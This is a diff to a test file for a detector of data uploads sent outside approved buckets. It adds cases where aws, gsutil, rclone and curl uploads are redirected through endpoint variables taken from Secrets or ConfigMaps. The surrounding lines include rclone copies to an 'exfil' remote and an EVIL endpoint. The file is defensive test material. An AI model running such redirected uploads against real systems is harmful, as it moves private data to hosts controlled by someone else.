@@ -380,6 +380,11 @@ describe('data_upload_outside: a listed bucket sent to another endpoint (review4
     ['rclone connection string', `rclone copy /d minio,endpoint=${EVIL}:b`, {}],
     ['rclone -P before the verb, unlisted remote', 'rclone -P copy /d exfil:b', {}],
     ['rclone --config before the verb, unlisted remote', 'rclone --config /etc/rclone/rclone.conf copy /d exfil:b', {}],
+    // Issue #12 (session 51): the same names from a Secret or a ConfigMap (valueFrom) are set too.
+    ['AWS_ENDPOINT_URL from a Secret', 'aws s3 cp /d s3://helixa-models/x', { env: [{ name: 'AWS_ENDPOINT_URL', valueFrom: { secretKeyRef: { name: 'minio', key: 'url' } } }] }],
+    ['BOTO_CONFIG from a ConfigMap', 'gsutil cp /d gs://helixa-backups/x', { env: [{ name: 'BOTO_CONFIG', valueFrom: { configMapKeyRef: { name: 'b', key: 'path' } } }] }],
+    ['RCLONE_S3_ENDPOINT from a Secret', 'rclone copy /d minio:b', { env: [{ name: 'RCLONE_S3_ENDPOINT', valueFrom: { secretKeyRef: { name: 'r', key: 'e' } } }] }],
+    ['HOSTALIASES from a ConfigMap (names answered elsewhere)', 'curl -T /d https://artifacts.helixa.example/x', { env: [{ name: 'HOSTALIASES', valueFrom: { configMapKeyRef: { name: 'h', key: 'h' } } }] }],
   ])('asks %s', (_what, script, extra) => {
     expect(uploads(send(PODS, podOf(script, extra)))).toHaveLength(1);
   });
